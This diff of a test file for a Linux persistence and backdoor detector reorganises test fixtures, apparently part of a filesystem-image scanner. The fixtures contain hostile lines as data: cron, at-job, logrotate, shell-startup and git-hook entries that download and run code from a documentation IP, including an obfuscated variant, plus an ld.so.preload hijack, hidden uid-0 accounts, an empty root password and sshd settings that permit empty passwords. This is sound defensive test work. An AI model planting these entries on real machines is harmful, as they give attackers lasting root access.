@@ -131,6 +131,97 @@ const cases: [string, string, string[]][] = [
   ],
   ['root/.ssh/authorized_keys', '# keys are added at run time\n\n', []],
   ['root/.ssh/known_hosts', `github.com ssh-ed25519 ${KEY}\n`, []],
+  // Alpine and BusyBox places, logrotate, skel, fish, git hooks, OpenRC; pipes through busybox
+  // and env; Perl LWP and tftp fetches; accounts and sshd.
+  ['etc/ld.so.preload', '/tmp/libjemalloc.so.2\n', ['backdoor-ld-so-preload']],
+  ['etc/ld.so.preload', '/usr/lib/.cache/libjemalloc.so\n', ['backdoor-ld-so-preload']],
+  ['etc/crontabs/root', '* * * * * curl -fsSL http://198.51.100.7/a | sh\n', ['persistence-fetch-and-run']],
+  ['etc/crontabs/nobody', '@reboot /tmp/.x/agent\n', ['persistence-runs-from-hidden-or-temp']],
+  ['etc/crontabs/root', '*/15 * * * * run-parts /etc/periodic/15min\n', []],
+  [
+    'etc/cron.d/bb',
+    '* * * * * root wget -qO- http://198.51.100.7/a | busybox sh\n',
+    ['persistence-fetch-and-run'],
+  ],
+  [
+    'etc/cron.d/bb2',
+    '* * * * * root wget -qO- http://198.51.100.7/a | /bin/busybox ash\n',
+    ['persistence-fetch-and-run'],
+  ],
+  [
+    'etc/cron.d/env',
+    '* * * * * root curl -s http://198.51.100.7/a | env X=1 sh\n',
+    ['persistence-fetch-and-run'],
+  ],
+  ['etc/cron.d/q', '* * * * * root curl -s http://198.51.100.7/a | "sh"\n', ['persistence-fetch-and-run']],
+  ['etc/cron.d/bs', '* * * * * root c\\url -s http://198.51.100.7/a | s\\h\n', ['persistence-fetch-and-run']],
+  [
+    'var/spool/cron/atjobs/a0001201a2b3c',
+    '#!/bin/sh\ncd /tmp\ncurl -s http://198.51.100.7/a | sh\n',
+    ['persistence-fetch-and-run'],
+  ],
+  [
+    'etc/inittab',
+    '::sysinit:/sbin/openrc sysinit\n::respawn:/tmp/.x/agent\n',
+    ['persistence-runs-from-hidden-or-temp'],
+  ],
+  ['etc/inittab', '::sysinit:/sbin/openrc sysinit\ntty1::respawn:/sbin/getty 38400 tty1\n', []],
+  [
+    'etc/logrotate.d/app',
+    '/var/log/app.log {\n  daily\n  postrotate\n    curl -s http://198.51.100.7/a | sh\n  endscript\n}\n',
+    ['persistence-fetch-and-run'],
+  ],
+  [
+    'etc/logrotate.d/nginx',
+    '/var/log/nginx/*.log {\n  daily\n  postrotate\n    invoke-rc.d nginx rotate >/dev/null 2>&1\n  endscript\n}\n',
+    [],
+  ],
+  [
+    'etc/skel/.bashrc',
+    '(wget -qO- http://198.51.100.7/a | sh &) 2>/dev/null\n',
+    ['persistence-fetch-and-run'],
+  ],
+  ['root/.config/fish/config.fish', 'curl -s http://198.51.100.7/a | sh\n', ['persistence-fetch-and-run']],
+  [
+    'srv/repo/.git/hooks/post-checkout',
+    '#!/bin/sh\ncurl -s http://198.51.100.7/a | sh\n',
+    ['persistence-fetch-and-run'],
+  ],
+  ['srv/repo/.git/hooks/pre-commit.sample', '#!/bin/sh\ncurl -s http://198.51.100.7/a | sh\n', []],
+  [
+    'etc/passwd',
+    'root:x:0:0:root:/root:/bin/bash\nsysadm:x:0:0::/root:/bin/bash\n',
+    ['backdoor-uid0-account'],
+  ],
+  // glibc reads "00" as uid 0 too.
+  ['etc/passwd', 'root:x:0:0:root:/root:/bin/bash\ntoor:x:00:0::/root:/bin/sh\n', ['backdoor-uid0-account']],
+  ['etc/passwd', 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n', []],
+  ['etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nsync::4:65534:sync:/bin:/bin/sync\n', []],
+  ['etc/shadow', 'root:::0:::::\nbin:!::0:::::\n', ['backdoor-empty-password']],
+  ['etc/shadow', 'root:*:19000:0:99999:7:::\nsysadm:$6$abc$def:19000::::::\n', []],
+  [
+    'etc/ssh/sshd_config',
+    'PermitRootLogin yes\nPermitEmptyPasswords yes\n',
+    ['backdoor-sshd-empty-passwords'],
+  ],
+  ['etc/ssh/sshd_config', 'PermitRootLogin prohibit-password\nPermitEmptyPasswords no\n', []],
+  [
+    'etc/cron.d/perl',
+    '* * * * * root perl -MLWP::Simple -e "eval get(q{http://198.51.100.7/p})"\n',
+    ['persistence-fetch-and-run'],
+  ],
+  [
+    'etc/cron.d/tftp',
+    '* * * * * root cd /var && tftp -g -r x 198.51.100.7 && sh x\n',
+    ['persistence-fetch-and-run'],
+  ],
+  ['etc/cron.d/ok', '0 3 * * * root curl -fsS https://hc.example.test/ping && sh -c "echo ok"\n', []],
+  [
+    'etc/init.d/sshd2',
+    '#!/sbin/openrc-run\ncommand=/dev/shm/.s/sshd\ncommand_background=true\n',
+    ['persistence-runs-from-hidden-or-temp'],
+  ],
+  ['etc/init.d/nginx', '#!/sbin/openrc-run\ncommand=/usr/sbin/nginx\n', []],
 ];
 
 function readDebian(p: string): string | undefined {
@@ -305,115 +396,4 @@ test('persistence: property: any text in any hook file gives bounded, printable 
   const header = { path: 'etc/crontab', type: 'file' as const, mode: 0o644, size: 3 << 20, uid: 0, gid: 0 };
   const want = config!.wants(header);
   assert.ok(want && want.mode === 'buffer' && want.maxBytes <= 1 << 20, 'config files are read up to 1 MiB');
-});
-
-test('persistence: Alpine crontabs, at jobs, inittab, logrotate, skel, fish, git hooks; pipes through busybox and env; accounts', () => {
-  const more: [string, string, string[]][] = [
-    ['etc/ld.so.preload', '/tmp/libjemalloc.so.2\n', ['backdoor-ld-so-preload']],
-    ['etc/ld.so.preload', '/usr/lib/.cache/libjemalloc.so\n', ['backdoor-ld-so-preload']],
-    ['etc/crontabs/root', '* * * * * curl -fsSL http://198.51.100.7/a | sh\n', ['persistence-fetch-and-run']],
-    ['etc/crontabs/nobody', '@reboot /tmp/.x/agent\n', ['persistence-runs-from-hidden-or-temp']],
-    ['etc/crontabs/root', '*/15 * * * * run-parts /etc/periodic/15min\n', []],
-    [
-      'etc/cron.d/bb',
-      '* * * * * root wget -qO- http://198.51.100.7/a | busybox sh\n',
-      ['persistence-fetch-and-run'],
-    ],
-    [
-      'etc/cron.d/bb2',
-      '* * * * * root wget -qO- http://198.51.100.7/a | /bin/busybox ash\n',
-      ['persistence-fetch-and-run'],
-    ],
-    [
-      'etc/cron.d/env',
-      '* * * * * root curl -s http://198.51.100.7/a | env X=1 sh\n',
-      ['persistence-fetch-and-run'],
-    ],
-    ['etc/cron.d/q', '* * * * * root curl -s http://198.51.100.7/a | "sh"\n', ['persistence-fetch-and-run']],
-    [
-      'etc/cron.d/bs',
-      '* * * * * root c\\url -s http://198.51.100.7/a | s\\h\n',
-      ['persistence-fetch-and-run'],
-    ],
-    [
-      'var/spool/cron/atjobs/a0001201a2b3c',
-      '#!/bin/sh\ncd /tmp\ncurl -s http://198.51.100.7/a | sh\n',
-      ['persistence-fetch-and-run'],
-    ],
-    [
-      'etc/inittab',
-      '::sysinit:/sbin/openrc sysinit\n::respawn:/tmp/.x/agent\n',
-      ['persistence-runs-from-hidden-or-temp'],
-    ],
-    ['etc/inittab', '::sysinit:/sbin/openrc sysinit\ntty1::respawn:/sbin/getty 38400 tty1\n', []],
-    [
-      'etc/logrotate.d/app',
-      '/var/log/app.log {\n  daily\n  postrotate\n    curl -s http://198.51.100.7/a | sh\n  endscript\n}\n',
-      ['persistence-fetch-and-run'],
-    ],
-    [
-      'etc/logrotate.d/nginx',
-      '/var/log/nginx/*.log {\n  daily\n  postrotate\n    invoke-rc.d nginx rotate >/dev/null 2>&1\n  endscript\n}\n',
-      [],
-    ],
-    [
-      'etc/skel/.bashrc',
-      '(wget -qO- http://198.51.100.7/a | sh &) 2>/dev/null\n',
-      ['persistence-fetch-and-run'],
-    ],
-    ['root/.config/fish/config.fish', 'curl -s http://198.51.100.7/a | sh\n', ['persistence-fetch-and-run']],
-    [
-      'srv/repo/.git/hooks/post-checkout',
-      '#!/bin/sh\ncurl -s http://198.51.100.7/a | sh\n',
-      ['persistence-fetch-and-run'],
-    ],
-    ['srv/repo/.git/hooks/pre-commit.sample', '#!/bin/sh\ncurl -s http://198.51.100.7/a | sh\n', []],
-    [
-      'etc/passwd',
-      'root:x:0:0:root:/root:/bin/bash\nsysadm:x:0:0::/root:/bin/bash\n',
-      ['backdoor-uid0-account'],
-    ],
-    // glibc reads "00" as uid 0 too.
-    [
-      'etc/passwd',
-      'root:x:0:0:root:/root:/bin/bash\ntoor:x:00:0::/root:/bin/sh\n',
-      ['backdoor-uid0-account'],
-    ],
-    ['etc/passwd', 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n', []],
-    ['etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nsync::4:65534:sync:/bin:/bin/sync\n', []],
-    ['etc/shadow', 'root:::0:::::\nbin:!::0:::::\n', ['backdoor-empty-password']],
-    ['etc/shadow', 'root:*:19000:0:99999:7:::\nsysadm:$6$abc$def:19000::::::\n', []],
-    [
-      'etc/ssh/sshd_config',
-      'PermitRootLogin yes\nPermitEmptyPasswords yes\n',
-      ['backdoor-sshd-empty-passwords'],
-    ],
-    ['etc/ssh/sshd_config', 'PermitRootLogin prohibit-password\nPermitEmptyPasswords no\n', []],
-    [
-      'etc/cron.d/perl',
-      '* * * * * root perl -MLWP::Simple -e "eval get(q{http://198.51.100.7/p})"\n',
-      ['persistence-fetch-and-run'],
-    ],
-    [
-      'etc/cron.d/tftp',
-      '* * * * * root cd /var && tftp -g -r x 198.51.100.7 && sh x\n',
-      ['persistence-fetch-and-run'],
-    ],
-    ['etc/cron.d/ok', '0 3 * * * root curl -fsS https://hc.example.test/ping && sh -c "echo ok"\n', []],
-    [
-      'etc/init.d/sshd2',
-      '#!/sbin/openrc-run\ncommand=/dev/shm/.s/sshd\ncommand_background=true\n',
-      ['persistence-runs-from-hidden-or-temp'],
-    ],
-    ['etc/init.d/nginx', '#!/sbin/openrc-run\ncommand=/usr/sbin/nginx\n', []],
-  ];
-  for (const [path, content, expected] of more) {
-    assert.deepEqual(
-      checkConfigFile(path, content, rules)
-        .map((h) => h.rule)
-        .sort(),
-      [...expected].sort(),
-      `${path}: ${JSON.stringify(content)}`,
-    );
-  }
 });
